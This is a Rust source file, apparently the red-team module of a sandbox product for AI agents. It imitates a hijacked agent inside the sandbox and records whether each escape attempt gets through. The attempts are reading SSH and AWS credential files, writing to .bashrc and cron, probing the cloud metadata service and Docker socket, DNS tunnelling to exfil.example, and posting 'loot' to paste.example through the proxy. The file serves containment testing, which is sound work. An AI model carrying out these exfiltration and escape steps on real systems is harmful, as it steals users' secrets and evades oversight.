//! The demo's attacker: runs inside the walls and tries what a hijacked agent would. It only reports what it saw; whether anything had
//! an effect is looked at from outside.

use super::http;
use crate::cli::RedTeamArgs;
use crate::exit::DONE;
use crate::print;
use crate::settings::Settings;
use rustix::net::{AddressFamily, SocketType, socket};
use serde::{Deserialize, Serialize};
use std::fs;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket};
use std::os::unix::net::UnixStream;
use std::path::Path;
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(3);
/// What the attacker would carry out.
const LOOT: &[u8] = b"loot";

/// One attempt.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Attempt {
    /// The kind of event that must be on record for it.
    pub(crate) event: String,
    /// What was tried.
    pub(crate) act: String,
    /// Whether the attacker got anything.
    pub(crate) succeeded: bool,
    /// What it saw.
    pub(crate) seen: String,
}

/// Tries everything and prints a line of JSON for each attempt.
pub(crate) fn run(args: &RedTeamArgs, settings: &Settings) -> u8 {
    for attempt in files(&args.home).into_iter().chain(network(args.host_port)).chain(names()).chain(calls(settings)).chain(kernel()) {
        print::line(serde_json::to_string(&attempt).unwrap_or_default());
    }
    DONE
}

fn attempt(event: &str, act: impl Into<String>, result: Result<impl ToString, impl ToString>) -> Attempt {
    let (succeeded, seen) = match result {
        Ok(seen) => (true, seen.to_string()),
        Err(seen) => (false, seen.to_string()),
    };
    Attempt { event: event.to_owned(), act: act.into(), succeeded, seen }
}

fn files(home: &Path) -> Vec<Attempt> {
    let read = |path: &Path| fs::read(path).map(|bytes| format!("{} bytes", bytes.len()));
    let write = |path: &Path| fs::write(path, LOOT).map(|()| "written");
    let mut list = Vec::new();
    for name in [".ssh/id_ed25519", ".aws/credentials"] {
        let path = home.join(name);
        list.push(attempt("file.refused", format!("read {}", path.display()), read(&path)));
    }
    for path in [home.join(".bashrc"), "/etc/cron.d/bailiwick-demo".into(), "/usr/local/bin/bailiwick-demo".into()] {
        list.push(attempt("file.refused", format!("write {}", path.display()), write(&path)));
    }
    list
}

/// A connection that carries nothing is none: the door takes it only to record it.
fn knock(address: SocketAddr) -> Result<String, String> {
    let mut stream = TcpStream::connect_timeout(&address, WAIT).map_err(|error| error.to_string())?;
    stream.set_read_timeout(Some(WAIT)).map_err(|error| error.to_string())?;
    let mut answer = [0; 64];
    match stream.write_all(LOOT).and_then(|()| stream.read(&mut answer)) {
        Ok(0) => Err("closed without an answer".to_owned()),
        Ok(length) => Ok(format!("{length} bytes answered")),
        Err(error) => Err(error.to_string()),
    }
}

fn network(host_port: u16) -> Vec<Attempt> {
    let v4 = |a, b, c, d, port| SocketAddr::new(IpAddr::V4(Ipv4Addr::new(a, b, c, d)), port);
    vec![
        attempt("connection.refused", "connect to 203.0.113.7:443 directly", knock(v4(203, 0, 113, 7, 443))),
        attempt("connection.refused", "ask the cloud's metadata service at 169.254.169.254", knock(v4(169, 254, 169, 254, 80))),
        attempt("", "call another gateway on the host's loopback without a session", knock(v4(127, 0, 0, 1, host_port))),
        attempt("", "talk to the container engine's socket", UnixStream::connect("/var/run/docker.sock").map(|_| "connected")),
    ]
}

fn names() -> Vec<Attempt> {
    let resolved = ("exfil.example", 443).to_socket_addrs().map(|mut found| found.next().map_or_else(String::new, |a| a.to_string()));
    vec![attempt("name.refused", "resolve exfil.example", resolved), attempt("name.refused", "tunnel data out in a DNS question", tunnel())]
}

/// Asks for a name that is data; an answer with a record would be a way out.
fn tunnel() -> Result<String, String> {
    let text = |error: std::io::Error| error.to_string();
    let socket = UdpSocket::bind("0.0.0.0:0").map_err(text)?;
    socket.set_read_timeout(Some(WAIT)).map_err(text)?;
    let mut question = vec![0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["6c6f6f74", "t", "exfil", "example"] {
        question.push(u8::try_from(label.len()).unwrap_or(0));
        question.extend_from_slice(label.as_bytes());
    }
    question.extend_from_slice(&[0, 0, 16, 0, 1]);
    socket.send_to(&question, "8.8.8.8:53").map_err(text)?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer).map_err(text)?;
    match (length, answer.get(3).map(|flags| flags & 0x0f), answer.get(6..8)) {
        (12.., Some(0), Some(records)) if records != [0, 0] => Ok("records came back".to_owned()),
        (_, Some(code), _) => Err(format!("refused with response code {code}")),
        (_, None, _) => Err("no answer".to_owned()),
    }
}

fn calls(settings: &Settings) -> Vec<Attempt> {
    let proxy = settings.variable("HTTPS_PROXY").and_then(|proxy| proxy.into_string().ok()).unwrap_or_default();
    let proxy = proxy.strip_prefix("http://").unwrap_or_default().to_owned();
    let through = |request: &str| match http::exchange(&proxy, request.as_bytes(), WAIT) {
        Ok(answer) if answer.status == 200 => Ok("200".to_owned()),
        Ok(answer) => Err(format!("HTTP {}", answer.status)),
        Err(error) => Err(error.to_string()),
    };
    vec![
        attempt(
            "connection.refused",
            "tunnel to api.openai.com through the proxy",
            through("CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n"),
        ),
        attempt(
            "connection.refused",
            "post to paste.example through the proxy",
            through("POST http://paste.example/new HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 4\r\nConnection: close\r\n\r\nloot"),
        ),
    ]
}

fn kernel() -> Vec<Attempt> {
    let raw = socket(AddressFamily::PACKET, SocketType::RAW, None).map(|_| "a packet socket");
    let mounted = rustix::process::chroot("/tmp").map(|()| "another root");
    vec![
        attempt("system_call.refused", "open a raw packet socket", raw),
        attempt("system_call.refused", "change the root directory", mounted),
    ]
}
